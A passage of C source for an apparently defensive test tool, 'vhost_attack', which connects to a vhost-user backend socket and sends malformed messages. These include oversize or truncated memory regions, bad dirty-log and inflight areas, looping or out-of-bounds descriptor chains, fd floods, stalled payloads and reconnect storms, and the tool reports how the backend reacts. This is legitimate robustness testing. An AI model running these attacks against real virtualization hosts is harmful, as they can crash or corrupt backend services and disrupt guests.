		.used_user_addr = uva(vq->used),
		.avail_user_addr = uva(vq->avail),
		/* QEMU always passes the used ring's guest physical address here */
		.log_guest_addr = gpa(g, RING_AREA(q) + 0x2000),
	};
	char detail[32];

	snprintf(detail, sizeof(detail), "q%d%s", q, log ? ",log" : "");
	return vu_call(s, VU_SET_VRING_ADDR, detail, &a, sizeof(a), NULL, 0, NULL, 0);
}

static int hs_vrings(struct session *s, struct guest *g, int nq)
{
	int ret = 0;

	for (int q = 0; q < nq && ret == 0; q++) {
		ret = vu_state(s, VU_SET_VRING_NUM, (uint32_t)q, RING_SIZE);
		if (ret == 0)
			ret = vu_state(s, VU_SET_VRING_BASE, (uint32_t)q, 0);
		if (ret == 0)
			ret = hs_vring_addr(s, g, q, false);
		if (ret == 0)
			ret = vu_vring_fd(s, VU_SET_VRING_KICK, (uint32_t)q, g->vqs[q].kickfd);
		if (ret == 0)
			ret = vu_vring_fd(s, VU_SET_VRING_CALL, (uint32_t)q, g->vqs[q].callfd);
	}
	/* With protocol features negotiated rings start disabled (spec: "Ring states"). */
	for (int q = 0; q < nq && ret == 0 && (s->acked & BIT(F_PROTOCOL_FEATURES)); q++)
		ret = vu_state(s, VU_SET_VRING_ENABLE, (uint32_t)q, 1);
	return ret;
}

/* The whole well-behaved handshake; a refusal is recorded but does not stop us. */
static int handshake(struct session *s, struct guest *g, uint64_t want_features,
		     uint64_t want_proto)
{
	int ret = hs_negotiate(s, want_features, want_proto);

	if (ret == 0 || ret == -EREMOTEIO)
		ret = hs_mem_table(s, g, g->size);
	if (ret == 0 || ret == -EREMOTEIO)
		ret = hs_vrings(s, g, NQUEUES);
	return ret == -EREMOTEIO ? 0 : ret;
}

/*
 * Count the dirty bits the backend set inside the declared log window and outside it.
 * Bits outside, or none inside after traffic was processed, mean the backend placed the
 * log wrongly (e.g. applied mmap_offset twice or not at all): a migration would miss
 * dirty pages, and the stray writes went into some other memory of the backend.
 */
static void dirty_log_report(const struct dirty_log *l)
{
	uint64_t in = 0, out = 0, end = l->offset + l->size;

	if (!l->map)
		return;
	for (uint64_t i = 0; i < l->file_size; i++) {
		uint64_t bits = (uint64_t)__builtin_popcount(l->map[i]);

		if (i >= l->offset && i < end)
			in += bits;
		else
			out += bits;
	}
	note("dirty log: %" PRIu64 " bits set inside the declared window, %" PRIu64
	     " outside it (file %" PRIu64 " bytes, window %" PRIu64 "+%" PRIu64 ")",
	     in, out, l->file_size, l->offset, l->size);
}

/* ---- attacks */

static int atk_ok(struct session *s)
{
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, 0)))
		return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "16 TX packets + kick");
	s->delivered = true;
	return 0;
}

/* The region claims twice the file; a TX descriptor points into the part with no file. */
static int atk_mem_oversize(struct session *s)
{
	struct vq *vq = &s->g.vqs[Q_TX];
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	ret = hs_mem_table(s, &s->g, 2 * s->g.size);
	s->delivered = true;
	if (ret < 0 || gone(hs_vrings(s, &s->g, NQUEUES)))
		return 0;
	vq->desc[0] =
		(struct vring_desc){.addr = gpa(&s->g, s->g.size + (1 << 20)), .len = PKT_SIZE};
	vq_publish(&s->g, Q_TX, 0);
	vq_kick(&s->g, Q_TX);
	step_set(s, "TX descriptor beyond the file + kick");
	return 0;
}

/* Shrink the file under live rings: every later backend access to it is past EOF. */
static int atk_mem_truncate(struct session *s)
{
	int ret;

	ret = guest_init(&s->g, 0, false);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, 0)))
		return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "traffic before truncation");
	if (!sess_watch(s, 500))
		return 0;
	guest_report(&s->g);
	/* Our own view of the file would SIGBUS from now on: only kicks are left to us. */
	if (ftruncate(s->g.memfd, 0) < 0)
		return -errno;
	s->g.gone = true;
	s->delivered = true;
	step_set(s, "ftruncate(memfd, 0)");
	if (!sess_watch(s, 200))
		return 0;
	vq_kick(&s->g, Q_RX);
	vq_kick(&s->g, Q_TX);
	step_set(s, "kick after ftruncate(memfd, 0)");
	return 0;
}

/*
 * The QEMU migration sequence: SET_LOG_BASE, SET_FEATURES + LOG_ALL, ring addresses
 * re-sent with the log flag, then traffic so the backend dirties pages and logs them.
 */
static int log_attack(struct session *s, uint64_t file_size, uint64_t mmap_size,
		      uint64_t mmap_offset)
{
	struct vu_log log = {.mmap_size = mmap_size, .mmap_offset = mmap_offset};
	uint8_t *map;
	int ret, fd;

	ret = guest_init(&s->g, LOG_GPA_BASE, true);
	if (ret < 0)
		return ret;
	if (gone(handshake(s, &s->g, 0, BIT(PF_LOG_SHMFD))))
		return 0;
	if (!(s->proto & BIT(PF_LOG_SHMFD)))
		note("backend does not offer LOG_SHMFD: sending SET_LOG_BASE anyway");
	if (!(s->features & BIT(F_LOG_ALL)))
		note("backend does not offer LOG_ALL: setting it anyway");
	fd = memfd_sized("vhost_attack-log", file_size, false);
	if (fd < 0)
		return fd;
	/* Our own read-only view, to check afterwards where the backend set dirty bits. */
	map = mmap(NULL, file_size, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED) {
		ret = -errno;
		close(fd);
		return ret;
	}
	s->log = (struct dirty_log){map, file_size, mmap_offset, mmap_size};
	step_set(s, "SET_LOG_BASE(file %" PRIu64 " KiB, size %" PRIu64 " KiB, offset %" PRIu64 ")",
		 file_size >> 10, mmap_size >> 10, mmap_offset);
	ret = vu_send_raw(s, VU_SET_LOG_BASE, 0, sizeof(log), &log, sizeof(log), &fd, 1);
	close(fd);
	s->delivered = true;
	if (ret < 0)
		return 0;
	/*
	 * With LOG_SHMFD the backend must answer SET_LOG_BASE (empty payload), as QEMU
	 * waits for it; without, a reply is not defined: just watch a moment.
	 */
	if (s->proto_acked & BIT(PF_LOG_SHMFD))
		ret = vu_recv_reply(s, VU_SET_LOG_BASE, NULL, 0, NULL, NULL, NULL,
				    REPLY_TIMEOUT_MS);
	else
		ret = sess_watch(s, 200) ? 0 : -ECONNRESET;
	if (gone(ret))
		return 0;
	s->acked |= BIT(F_LOG_ALL);
	if (gone(vu_u64(s, VU_SET_FEATURES, "+LOG_ALL", s->acked)))
		return 0;
	for (int q = 0; q < NQUEUES; q++)
		if (gone(hs_vring_addr(s, &s->g, q, true)))
			return 0;
	traffic(&s->g, 128, 16);
	step_set(s, "traffic with dirty logging");
	return 0;
}

static int atk_log_offset(struct session *s)
{
	/* 64 KiB of log covers 2 GiB of guest memory; the file holds offset + size. */
	return log_attack(s, (64 << 10) + 4096, 64 << 10, 4096);
}

static int atk_log_oversize(struct session *s)
{
	return log_attack(s, 4096, 1 << 20, 0);
}

/* 4 KiB of inflight area that claims 8 queues of 1024 descriptors (~128 KiB). */
static int atk_inflight_small(struct session *s)
{
	struct vu_inflight inf = {.mmap_size = 4096, .num_queues = 8, .queue_size = 1024};
	int ret, fd;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (gone(hs_negotiate(s, 0, BIT(PF_INFLIGHT_SHMFD))))
		return 0;
	if (!(s->proto & BIT(PF_INFLIGHT_SHMFD)))
		note("backend does not offer INFLIGHT_SHMFD: sending SET_INFLIGHT_FD anyway");
	fd = memfd_sized("vhost_attack-inflight", 4096, false);
	if (fd < 0)
		return fd;
	/* Where QEMU's vhost-user-blk sends it: after negotiation, before the rings. */
	ret = vu_call(s, VU_SET_INFLIGHT_FD, "4 KiB, 8 queues x 1024", &inf, sizeof(inf), &fd, 1,
		      NULL, 0);
	close(fd);
	s->delivered = true;
	if (gone(ret))
		return 0;
	ret = hs_mem_table(s, &s->g, s->g.size);
	if (!gone(ret))
		ret = hs_vrings(s, &s->g, NQUEUES);
	if (!gone(ret)) {
		traffic(&s->g, 128, 16);
		step_set(s, "traffic after SET_INFLIGHT_FD");
	}
	return 0;
}

/* Ask the backend to create and zero an inflight area for 512 queues of 65535. */
static int atk_inflight_huge(struct session *s)
{
	struct vu_inflight inf = {.num_queues = 512, .queue_size = 65535};
	struct vu_inflight back = {0};
	int fds[VU_MAX_REGIONS], nfds = 0, ret;
	uint32_t size;

	if (gone(hs_negotiate(s, 0, BIT(PF_INFLIGHT_SHMFD))))
		return 0;
	step_set(s, "GET_INFLIGHT_FD(512 queues x 65535)");
	ret = vu_send_raw(s, VU_GET_INFLIGHT_FD, 0, sizeof(inf), &inf, sizeof(inf), NULL, 0);
	s->delivered = true;
	if (ret < 0)
		return 0;
	/* A backend that complies allocates and zeroes it first: allow it more time. */
	ret = vu_recv_reply(s, VU_GET_INFLIGHT_FD, &back, sizeof(back), &size, fds, &nfds,
			    5 * REPLY_TIMEOUT_MS);
	if (ret < 0)
		return 0;
	for (int i = 0; i < nfds; i++) {
		struct stat st;

		if (fstat(fds[i], &st) == 0)
			note("backend handed back an inflight fd of %lld MiB (mmap_size %" PRIu64
			     " MiB)",
			     (long long)st.st_size >> 20, back.mmap_size >> 20);
		close(fds[i]);
	}
	if (!nfds)
		note("reply without fd, mmap_size %" PRIu64, back.mmap_size);
	return 0;
}

/*
 * Announce 256 payload bytes and withhold them. First nothing at all for half the hold (a
 * backend reading the payload with one blocking read() hangs here), then 8 bytes and
 * silence (a backend looping until the payload is complete hangs here).
 */
static int atk_stall_payload(struct session *s)
{
	uint8_t part[8] = {0};
	int ret;

	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	step_set(s, "SET_VRING_ADDR header announcing 256 bytes, none sent");
	ret = vu_send_raw(s, VU_SET_VRING_ADDR, 0, 256, NULL, 0, NULL, 0);
	s->delivered = true;
	if (ret < 0 || !sess_watch(s, s->hold * 1000 / 2))
		return 0;
	step_set(s, "SET_VRING_ADDR header announcing 256 bytes, 8 sent");
	if (sock_send(s->fd, part, sizeof(part), NULL, 0) < 0)
		sess_closed(s);
	s->hold -= s->hold / 2;
	return 0;
}

/* ---- bad-desc: each malformed chain on a fresh device so one cannot hide another */

/*
 * Each bd_* writes one malformed TX chain with head descriptor h and makes it available.
 * A backend must drop such a chain (or the ring) without reading outside guest memory.
 */

static void bd_loop(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA),
						   .len = PKT_SIZE,
						   .flags = VRING_DESC_F_NEXT,
						   .next = h};
	vq_publish(g, Q_TX, h);
}

static void bd_outside(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = 0x7e0000000000ULL, .len = PKT_SIZE};
	vq_publish(g, Q_TX, h);
}

static void bd_zero_len(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA), .len = 0};
	vq_publish(g, Q_TX, h);
}

static void bd_cross_end(struct guest *g, uint16_t h, bool indirect)
{
	(void)indirect;
	g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, g->size - 16), .len = 4096};
	vq_publish(g, Q_TX, h);
}

/*
 * A chain longer than the ring: 1024 entries through an indirect table when that was
 * negotiated, else every descriptor of the ring with the last one pointing back to h.
 */
static void bd_long_chain(struct guest *g, uint16_t h, bool indirect)
{
	struct vring_desc *d = g->vqs[Q_TX].desc;
	const int n = indirect ? 4 * RING_SIZE : RING_SIZE;

	if (indirect)
		d = (struct vring_desc *)(g->mem + INDIRECT_AREA);
	for (int i = 0; i < n; i++) {
		uint16_t id = indirect ? (uint16_t)i : (uint16_t)((h + i) % RING_SIZE);

		d[id] = (struct vring_desc){.addr = gpa(g, TX_BUF_AREA),
					    .len = 16,
					    .flags = VRING_DESC_F_NEXT,
					    .next = indirect ? (uint16_t)(i + 1)
							     : (uint16_t)((id + 1) % RING_SIZE)};
	}
	if (indirect) {
		d[n - 1].flags = 0;
		g->vqs[Q_TX].desc[h] = (struct vring_desc){.addr = gpa(g, INDIRECT_AREA),
							   .len = (uint32_t)(n * sizeof(*d)),
							   .flags = VRING_DESC_F_INDIRECT};
	}
	vq_publish(g, Q_TX, h);
}

static void bd_head_oob(struct guest *g, uint16_t h, bool indirect)
{
	(void)h, (void)indirect;
	vq_publish(g, Q_TX, RING_SIZE + 44);
}

static const struct bd_case {
	const char *name;
	void (*post)(struct guest *g, uint16_t head, bool indirect);
} bd_cases[] = {
	{"descriptor loop", bd_loop},
	{"address outside every region", bd_outside},
	{"zero-length descriptor", bd_zero_len},
	{"descriptor crossing the region end", bd_cross_end},
	{"chain longer than the ring", bd_long_chain},
	{"avail entry >= ring size", bd_head_oob},
};

static int atk_bad_desc(struct session *s)
{
	for (size_t c = 0; c < sizeof(bd_cases) / sizeof(bd_cases[0]); c++) {
		const struct bd_case *bc = &bd_cases[c];
		struct guest *g = &s->g;
		uint16_t before;
		bool indirect;
		int ret;

		if (c > 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
			return 0;
		ret = guest_init(g, 0, true);
		if (ret < 0)
			return ret;
		if (gone(handshake(s, g, BIT(F_INDIRECT_DESC), 0)))
			continue;
		indirect = (s->acked & BIT(F_INDIRECT_DESC)) != 0;
		/* One good packet first: proves the ring works before the bad chain. */
		traffic(g, 32, 1);
		if (!sess_watch(s, 200))
			continue;
		before = vq_used_idx(g, Q_TX);
		bc->post(g, g->vqs[Q_TX].avail_idx % RING_SIZE, indirect);
		vq_kick(g, Q_TX);
		s->delivered = true;
		step_set(s, "%s%s + kick", bc->name,
			 bc->post == bd_long_chain && indirect ? " (indirect)" : "");
		if (!sess_watch(s, 300))
			continue;
		/* A good packet after the bad one: does the ring still move? */
		tx_post(g, 1);
		vq_kick(g, Q_TX);
		if (!sess_watch(s, 300))
			continue;
		note("case '%s': TX used idx %u -> %u of %u posted (%s)", bc->name, before,
		     vq_used_idx(g, Q_TX), g->vqs[Q_TX].avail_idx,
		     vq_used_idx(g, Q_TX) == g->vqs[Q_TX].avail_idx ? "ring still moves"
								    : "ring stalled");
	}
	return 0;
}

/* A header claiming 1 MiB of payload, and the whole MiB after it. */
static int atk_oversize_msg(struct session *s)
{
	const size_t len = 1 << 20;
	uint8_t *junk;
	int ret;

	if (gone(hs_negotiate(s, 0, 0)))
		return 0;
	junk = calloc(1, len);
	if (!junk)
		return -ENOMEM;
	step_set(s, "SET_VRING_ADDR with a 1 MiB payload");
	ret = vu_send_raw(s, VU_SET_VRING_ADDR, 0, (uint32_t)len, junk, len, NULL, 0);
	free(junk);
	s->delivered = true;
	if (ret == 0)
		sess_watch(s, 300);
	return 0;
}

/*
 * Requests that take no fds, each carrying 8 (the vhost-user maximum) or 253 (the
 * kernel's maximum) duplicates of one eventfd, 100 times. A backend that drops the
 * connection for it is reconnected to, so that leaks of kept descriptors add up.
 */
static int atk_fd_flood(struct session *s)
{
	int fds[SCM_MAX_FDS], efd, closes = 0, replies = 0;

	efd = eventfd(0, EFD_CLOEXEC);
	if (efd < 0)
		return -errno;
	for (int i = 0; i < SCM_MAX_FDS; i++)
		fds[i] = efd;
	for (int i = 0; i < 100; i++) {
		uint32_t req = i % 4 < 2 ? VU_GET_FEATURES : VU_GET_PROTOCOL_FEATURES;
		int nfds = i % 2 ? SCM_MAX_FDS : VU_MAX_REGIONS;
		uint64_t v;
		char detail[32];

		if (s->fd < 0) {
			closes++;
			if (sess_reconnect(s, RECONNECT_GAP_MS) < 0)
				break;
		}
		snprintf(detail, sizeof(detail), "%d fds, #%d", nfds, i + 1);
		s->delivered = true;
		if (vu_call(s, req, detail, NULL, 0, fds, nfds, &v, sizeof(v)) == 0)
			replies++;
	}
	close(efd);
	if (s->fd < 0)
		closes++;
	note("100 messages with fds: %d answered, connection dropped %d times", replies, closes);
	return 0;
}

/* Out-of-range ring sizes and ring indexes; a dropped connection is re-established. */
static int atk_bad_vring(struct session *s)
{
	struct vu_vring_addr a = {.index = 1000};
	bool fresh = true;
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	a.desc_user_addr = uva(s->g.vqs[0].desc);
	a.used_user_addr = uva(s->g.vqs[0].used);
	a.avail_user_addr = uva(s->g.vqs[0].avail);
	for (int c = 0; c < 5; c++) {
		if (s->fd < 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
			return 0;
		/* bring a new connection to where rings get set up */
		if (fresh &&
		    (gone(hs_negotiate(s, 0, 0)) || gone(hs_mem_table(s, &s->g, s->g.size))))
			continue;
		fresh = false;
		s->delivered = true;
		switch (c) {
		case 0:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 0);
			break;
		case 1:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 3);
			break;
		case 2:
			ret = vu_state(s, VU_SET_VRING_NUM, 0, 65536);
			break;
		case 3:
			ret = vu_call(s, VU_SET_VRING_ADDR, "index 1000", &a, sizeof(a), NULL, 0,
				      NULL, 0);
			break;
		default:
			ret = vu_vring_fd(s, VU_SET_VRING_KICK, 255, s->g.vqs[0].kickfd);
			break;
		}
		if (ret == 0)
			sess_watch(s, 100);
		note("case %s: %s", s->step,
		     s->fd < 0		 ? "connection closed"
		     : ret == -EREMOTEIO ? "error reply"
		     : ret < 0		 ? strerror(-ret)
					 : "accepted");
		fresh = s->fd < 0;
	}
	/* Does a normal ring setup still work on the (possibly new) connection? */
	if (s->fd < 0 && sess_reconnect(s, RECONNECT_GAP_MS) < 0)
		return 0;
	ret = fresh ? handshake(s, &s->g, 0, 0) : hs_vrings(s, &s->g, NQUEUES);
	if (!gone(ret)) {
		traffic(&s->g, 32, 16);
		step_set(s, "normal rings + traffic after the bad messages");
	}
	return 0;
}

/*
 * 200 connections torn down at rotating handshake stages (the last one right after the
 * device became ready), then one full well-behaved connection to see the backend still
 * serves. Replies are read so the backend gets to process each step.
 */
static int atk_reconnect_storm(struct session *s)
{
	int ret;

	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	for (int i = 0; i < 200; i++) {
		int cut = i % 5;

		if (sess_reconnect(s, 0) < 0) {
			note("storm: no connection at iteration %d", i + 1);
			return 0;
		}
		s->delivered = true;
		step_set(s, "storm connection %d", i + 1);
		ret = 0;
		if (cut == 1)
			ret = vu_call(s, VU_GET_FEATURES, NULL, NULL, 0, NULL, 0, &s->features,
				      sizeof(s->features));
		if (cut >= 2)
			ret = hs_negotiate(s, 0, 0);
		if (cut >= 3 && !gone(ret))
			ret = hs_mem_table(s, &s->g, s->g.size);
		if (cut >= 4 && !gone(ret))
			hs_vrings(s, &s->g, NQUEUES);
		if (s->fd >= 0)
			close(s->fd);
		s->fd = -1;
	}
	step_set(s, "200 reconnects");
	if (sess_reconnect(s, RECONNECT_GAP_MS) < 0)
		return 0;
	ret = guest_init(&s->g, 0, true);
	if (ret < 0)
		return ret;
	if (!gone(handshake(s, &s->g, 0, 0))) {
		traffic(&s->g, 32, 16);
		step_set(s, "full handshake + traffic after 200 reconnects");
	}
	return 0;
}

/* ---- main */

struct attack {
	const char *name;
	int (*fn)(struct session *s);
	int hold; /* default --hold */
};

static const struct attack attacks[] = {
	{"ok", atk_ok, 2},
	{"mem-oversize", atk_mem_oversize, 2},
	{"mem-truncate", atk_mem_truncate, 2},
	{"log-offset", atk_log_offset, 2},
	{"log-oversize", atk_log_oversize, 2},
	{"inflight-small", atk_inflight_small, 2},
	{"inflight-huge", atk_inflight_huge, 2},
	{"stall-payload", atk_stall_payload, 10},
	{"bad-desc", atk_bad_desc, 2},
	{"oversize-msg", atk_oversize_msg, 2},
	{"fd-flood", atk_fd_flood, 2},
	{"bad-vring", atk_bad_vring, 2},
	{"reconnect-storm", atk_reconnect_storm, 2},
};

static void usage(FILE *f)
{
	fprintf(f, "usage: vhost_attack [--listen] SOCKET_PATH ATTACK [--hold SECONDS]\n"
		   "attacks:");
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		fprintf(f, " %s", attacks[i].name);
	fputc('\n', f);
}

static void summary(const struct session *s)
{
	const char *d = s->delivered ? "delivered" : "not delivered";

	switch (s->outcome) {
	case OUT_CLOSED:
		printf("attack %s: %s; backend closed the connection after %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_REFUSED:
		printf("attack %s: %s; backend refused with an error reply at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_SILENT:
		printf("attack %s: %s; backend stopped answering at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	case OUT_BADREPLY:
		printf("attack %s: %s; backend sent a malformed reply at %s\n", s->attack, d,
		       s->outcome_step);
		break;
	default:
		printf("attack %s: %s; connection still open\n", s->attack, d);
		break;
	}
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct session s = {.lfd = -1, .fd = -1, .hold = -1};
	const struct attack *atk = NULL;
	const char *pos[2];
	int npos = 0, ret;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--listen") == 0) {
			s.listen = true;
		} else if (strcmp(argv[i], "--hold") == 0 && i + 1 < argc) {
			char *end;
			long v = strtol(argv[++i], &end, 10);

			if (*end || v < 0 || v > 3600) {
				usage(stderr);
				return 2;
			}
			s.hold = (int)v;
		} else if (strcmp(argv[i], "-h") == 0 || strcmp(argv[i], "--help") == 0) {
			usage(stdout);
			return 0;
		} else if (argv[i][0] != '-' && npos < 2) {
			pos[npos++] = argv[i];
		} else {
			usage(stderr);
			return 2;
		}
	}
	for (size_t i = 0; npos == 2 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(pos[1], attacks[i].name) == 0)
			atk = &attacks[i];
	if (!atk) {
		usage(stderr);
		return 2;
	}
	s.path = pos[0];
	s.attack = atk->name;
	if (s.hold < 0)
		s.hold = atk->hold;
	guest_reset(&s.g);
	/* A backend that dies mid-write must give us EPIPE, not kill us. */
	signal(SIGPIPE, SIG_IGN);

	if (s.listen && (ret = listen_open(&s)) < 0) {
		note("cannot listen on %s: %s", s.path, strerror(-ret));
		return 1;
	}
	if (sess_connect(&s, true) < 0)
		return 1;
	note("attack %s on %s", s.attack, s.path);
	ret = atk->fn(&s);
	if (ret < 0)
		note("local setup failed: %s", strerror(-ret));
	if (s.fd >= 0) {
		note("holding %d s after %s", s.hold, s.step);
		sess_watch(&s, s.hold * 1000);
	}
	guest_report(&s.g);
	dirty_log_report(&s.log);
	summary(&s);
	if (s.fd >= 0)
		close(s.fd);
	guest_fini(&s.g);
	if (s.log.map)
		munmap(s.log.map, s.log.file_size);
	if (s.lfd >= 0) {
		close(s.lfd);
		unlink(s.path);
	}
	return ret < 0 ? 1 : 0;
}
